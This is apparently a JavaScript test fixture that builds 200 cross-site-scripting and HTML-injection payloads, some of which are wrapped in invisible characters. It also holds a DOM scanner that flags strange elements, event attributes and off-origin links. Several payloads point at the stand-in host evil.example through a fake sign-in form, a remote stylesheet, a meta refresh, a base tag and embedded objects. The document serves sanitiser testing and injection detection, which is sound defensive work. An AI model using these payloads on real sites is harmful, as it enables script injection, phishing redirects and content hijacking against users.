// 200 texts that would run, load or change something if a page took them for markup. Each bears its number: pwned(7).

const RUN = (n) => `window.__pwned=${n}`;
const BIDI = ["\u202e", "\u2066", "\u200b", "\u0007", "\u001b[31m", "\u2028", "\ufeff", "\u00ad", "\u0000", "\u{e0041}"];

// Where a text may stand in a page: each breaks out of one such place.
const OUT = ["", "\">", "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "\" x=\"", "</pre></code>", "</svg>"];

const KINDS = [
  (n) => `<script>${RUN(n)}</script>`,
  (n) => `<img src=x onerror="${RUN(n)}">`,
  (n) => `<svg/onload=${RUN(n)}>`,
  (n) => `<svg><script>${RUN(n)}</script></svg>`,
  (n) => `<iframe srcdoc="<script>parent.__pwned=${n}</script>"></iframe>`,
  (n) => `<body onload=${RUN(n)}>`,
  (n) => `<input autofocus onfocus=${RUN(n)}>`,
  (n) => `<details open ontoggle=${RUN(n)}>`,
  (n) => `<a href="javascript:${RUN(n)}">go</a>`,
  (n) => `<form action="https://evil.example/${n}"><button>Sign in</button></form>`,
  (n) => `<link rel=stylesheet href="https://evil.example/${n}.css">`,
  (n) => `<style>@import "https://evil.example/${n}.css";</style>`,
  (n) => `<meta http-equiv=refresh content="0;url=https://evil.example/${n}">`,
  (n) => `<base href="https://evil.example/${n}/">`,
  (n) => `<math><mtext><mglyph><style><img src=x onerror=${RUN(n)}>`,
  (n) => `<template><img src=x onerror=${RUN(n)}></template>`,
  (n) => `" onmouseover="${RUN(n)}" data-n="${n}`,
  (n) => `' autofocus onfocus='${RUN(n)}' n='${n}`,
  (n) => `<section id="now" data-live="https://evil.example/${n}" data-go="/sign-out">`,
  (n) => `![pixel](https://evil.example/${n}.png) [link](javascript:${RUN(n)})`,
  (n) => `{{ constructor.constructor("${RUN(n)}")() }} \${${RUN(n)}}`,
  (n) => `&lt;script&gt;${RUN(n)}&lt;/script&gt;&#60;b&#62;`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${RUN(n)}>">`,
  (n) => `<b class="lgw-n${n}">bold</b><mark>${n}</mark><u style="position:fixed;inset:0">`,
  (n) => `<object data="https://evil.example/${n}"></object><embed src="https://evil.example/${n}">`,
];

export const PAYLOADS = Array.from({ length: 200 }, (_, n) => {
  const text = OUT[Math.floor(n / KINDS.length + n) % OUT.length] + KINDS[n % KINDS.length](n);
  // Every fourth also has characters that can't be seen.
  return n % 4 ? text : `${BIDI[(n / 4) % BIDI.length]}${text}${BIDI[(n / 4 + 3) % BIDI.length]}`;
});

export const HIDDEN = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]/u;

// What pages are made of. Whatever else is in one came out of a text of others.
const ELEMENTS = `a abbr article aside b body br button caption circle code col colgroup datalist dd defs desc details dialog div dl dt em
  fieldset figcaption figure footer form g h1 h2 h3 h4 head header hr html i input kbd label legend li line link main mark meta nav noscript
  ol optgroup option p path polygon polyline pre rect script section select small span strong sub summary svg table tbody td text
  textarea tfoot th thead time title tr tspan u ul use`.split(/\s+/);
const FORBIDDEN_ATTRIBUTES = ["style", "srcdoc", "srcset", "formaction", "background", "ping", "http-equiv", "xlink:href"];

// Runs in the page: says of each element whether it may be one of the page's own.
export function strangers({ elements, forbidden }) {
  const local = (address) => new URL(address, location.href).origin === location.origin && /^https?:/.test(new URL(address, location.href).protocol);
  const found = [];
  for (const node of document.querySelectorAll("*")) {
    const at = `<${node.localName}> ${node.outerHTML.slice(0, 120)}`;
    if (!elements.includes(node.localName)) found.push(`a strange element: ${at}`);
    if (node.localName === "script" && !node.getAttribute("src")?.startsWith("/assets/")) found.push(`a strange script: ${at}`);
    if (node.localName === "link" && !node.getAttribute("href")?.startsWith("/assets/")) found.push(`a strange link: ${at}`);
    for (const { name, value } of node.attributes) {
      if (!/^[a-zA-Z-]+[12]?$/.test(name) || name.startsWith("on") || forbidden.includes(name)) found.push(`a strange attribute ${name}: ${at}`);
      if (["href", "src", "action", "data-live", "data-go"].includes(name) && !local(value)) found.push(`leads away: ${at}`);
      if (["id", "class", "name", "type"].includes(name) && /__pwned|lgw-n|evil/.test(value)) found.push(`a strange ${name}: ${at}`);
    }
  }
  return found;
}

export const OWN_SET = { elements: ELEMENTS, forbidden: FORBIDDEN_ATTRIBUTES };
